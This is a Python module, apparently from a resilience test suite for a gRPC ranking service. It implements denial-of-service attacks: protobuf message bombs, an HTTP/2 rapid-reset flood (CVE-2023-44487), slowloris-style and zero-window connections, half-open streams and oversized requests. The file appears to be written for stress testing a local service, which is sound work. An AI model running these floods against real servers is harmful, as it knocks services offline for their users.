"""What attackers send, each kind by a process of its own: ``python -m attacks.attackers KIND TARGET PAGE SECONDS``.

They are allowed everything that the network allows; none has a credential, none needs one on loopback.
"""

import os
import socket
import struct
import sys
import threading
import time
from collections.abc import Callable, Iterator
from urllib.parse import urlsplit

import grpc
from rankd_client.v1 import completion_pb2, quality_pb2, rank_pb2
from support.http2 import END_HEADERS, HEADERS, RST, Connection, frame, headers
from support.wire import completion, completion_stub, item, quality_stub, rank_stub, request

RANK, STREAM = "rankd.v1.RankService/Rank", "rankd.v1.RankService/RankStream"
REPORT = "rankd.v1.CompletionService/ReportCompletions"
MILLIONS = 7_500_000
RESETS = 20_000
"""Calls a second that are taken back."""


def empties(tag: int, count: int) -> bytes:
    """So many empty messages of a repeated field."""
    return bytes([tag << 3 | 2, 0]) * count


def nested(*tags: int, count: int) -> bytes:
    """Empty messages of a repeated field within messages: the innermost tag last."""
    payload = empties(tags[-1], count)
    for tag in reversed(tags[:-1]):
        length, size = b"", len(payload)
        while size > 127:
            length, size = length + bytes([size & 127 | 128]), size >> 7
        payload = bytes([tag << 3 | 2]) + length + bytes([size]) + payload
    return payload


BOMBS = {
    "items": (RANK, empties(3, MILLIONS)),
    "tenants": (RANK, empties(6, MILLIONS)),
    "unknown fields": (RANK, empties(99 & 15, MILLIONS)),
    "reports": (REPORT, empties(3, MILLIONS)),
    "shadow scores": (REPORT, nested(3, 2, 7, count=MILLIONS - 20)),
    "arrived": (STREAM, empties(3, MILLIONS)),
    "gone": (STREAM, empties(5, MILLIONS)),
}


def channel(target: str, **options: int) -> grpc.Channel:
    """A connection of its own."""
    wanted = {"grpc.use_local_subchannel_pool": 1, "grpc.max_receive_message_length": -1} | options
    return grpc.insecure_channel(target, options=list(wanted.items()))


def forever(seconds: float, act: Callable[[], object], threads: int = 1) -> None:
    """Do it again and again, whatever comes of it."""

    def loop() -> None:
        while time.monotonic() < end:
            try:
                act()
            except (grpc.RpcError, OSError, ValueError):
                time.sleep(0.02)

    end = time.monotonic() + seconds
    running = [threading.Thread(target=loop, daemon=True) for _ in range(threads)]
    for thread in running:
        thread.start()
    for thread in running:
        thread.join(seconds + 5)


def bombs(target: str, _page: str, seconds: float) -> None:
    """Millions of empty messages in one, plain and compressed, to all methods that take any."""
    turn: Iterator[tuple[str, bytes, grpc.Compression]] = iter(())

    def act() -> None:
        nonlocal turn
        try:
            path, payload, compression = next(turn)
        except StopIteration:
            turn = iter([(p, b, c) for c in (grpc.Compression.Gzip, None) for p, b in BOMBS.values()])
            return
        with channel(target) as line:
            if path == STREAM:
                for _ in line.stream_stream(f"/{path}")(iter([payload]), timeout=5, compression=compression):
                    pass
            else:
                line.unary_unary(f"/{path}")(payload, timeout=5, compression=compression)

    forever(seconds, act)


def page_readers(_target: str, page: str, seconds: float) -> None:
    """Ask for the metrics and read nothing, with a window as small as it gets; and connections that say nothing."""
    place = urlsplit(page)
    lines: list[socket.socket] = []
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            line = socket.socket()
            line.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1024)
            line.settimeout(2)
            line.connect((place.hostname or "", place.port or 0))
            if len(lines) % 4:
                line.send(b"GET /metrics HTTP/1.1\r\nHost: a\r\n\r\n")
            lines.append(line)
        except OSError:
            time.sleep(0.02)
        if len(lines) > 400:
            lines.pop(0).close()
        time.sleep(0.01)


def resets(target: str, _page: str, seconds: float) -> None:
    """Open calls and cancel them at once (CVE-2023-44487): 20,000 a second; on a new connection when one is cut."""

    def act() -> None:
        line = Connection(target)
        try:
            while True:
                began = time.monotonic()
                frames = [opened_and_reset(2 * (n + 1) + line.stream) for n in range(200)]
                line.stream += 400
                line.socket.sendall(b"".join(frames))
                line.take_all()
                time.sleep(max(0.0, began + 200 / RESETS - time.monotonic()))
        finally:
            line.close()

    forever(seconds, act)


def opened_and_reset(stream: int) -> bytes:
    """The frames of a call that is taken back at once."""
    return frame(HEADERS, END_HEADERS, stream, headers(RANK)) + frame(RST, 0, stream, struct.pack(">I", 8))


def half_open(target: str, _page: str, seconds: float) -> None:
    """Open 10,000 calls over twenty connections, and never say what is wanted, or only how long it will be."""
    lines = []

    def act() -> None:
        line = Connection(target)
        lines.append(line)
        for n in range(500):
            stream = line.open((RANK, REPORT, STREAM)[n % 3])
            if n % 2:
                line.begin(stream, 4096)
        if len(lines) > 20:
            lines.pop(0).close()
        time.sleep(1.0)

    forever(seconds, act)


def unread(target: str, _page: str, seconds: float) -> None:
    """Ask, and let no byte of an answer through: a window of nothing; a hundred answers every two seconds."""
    asked = request(*(item(f"{n:04d}" * 8, None) for n in range(300))).SerializeToString()
    lines = []

    def act() -> None:
        line = Connection(target, window=0)
        lines.append(line)
        for _ in range(100):
            line.open(RANK, data=asked)
        if len(lines) > 30:
            lines.pop(0).close()
        time.sleep(2.0)

    forever(seconds, act)


def greedy(target: str, _page: str, seconds: float) -> None:
    """The longest queue that is allowed, again and again, and the longest report."""
    long = request(*(item(f"r{n}", f"prompt {n}") for n in range(16_384)), model="greedy")
    report = completion_pb2.ReportCompletionsRequest(model="greedy")
    for n in range(4096):
        report.completions.add(request_id=f"r{n}", output_token_count=5)
    line = channel(target)
    stub = rank_stub(line)
    send = line.unary_unary(f"/{REPORT}", request_serializer=completion_pb2.ReportCompletionsRequest.SerializeToString)

    def act() -> None:
        stub.Rank(long, timeout=5)
        send(report, timeout=5)

    forever(seconds, act)


def watchers(target: str, _page: str, seconds: float) -> None:
    """Sixty-four who watch the quality of many models ten times a second, over one connection."""
    line = channel(target)
    version = rank_stub(line).Rank(request(item("a", "a"))).items[0].prediction.ranker_version
    for model in range(12):
        rows = [completion(f"{n}", n * 7 % 101, 1 + n * 37 % 211, version) for n in range(300)]
        asked = completion_pb2.ReportCompletionsRequest(model=f"watched-{model}", completions=rows)
        completion_stub(line).ReportCompletions(asked)
    asked = quality_pb2.WatchQualityRequest()
    asked.interval.nanos = 100_000_000

    def act() -> None:
        for _ in quality_stub(line).WatchQuality(asked, timeout=seconds):
            pass

    forever(seconds, act, threads=64)


def streams(target: str, _page: str, seconds: float) -> None:
    """Streams that each keep as much as a stream may, and say no more."""
    text = "word " * 800

    def messages() -> Iterator[rank_pb2.RankStreamRequest]:
        for turn in range(16):
            out = rank_pb2.RankStreamRequest(sequence=turn)
            out.arrived.extend(item(f"{turn}-{n}", f"{turn} {n} {text}") for n in range(1000))
            yield out
        time.sleep(seconds)

    def act() -> None:
        with channel(target) as line:
            for _ in rank_stub(line).RankStream(messages(), timeout=seconds):
                pass

    forever(seconds, act, threads=28)


KINDS = {f.__name__: f for f in (bombs, page_readers, resets, half_open, unread, greedy, watchers, streams)}


def main() -> int:
    """Attack in one way."""
    kind, target, page, seconds = sys.argv[1:]
    os.nice(19)
    threading.Timer(float(seconds) + 3, os._exit, [0]).start()
    KINDS[kind](target, page, float(seconds))
    os._exit(0)


if __name__ == "__main__":
    main()
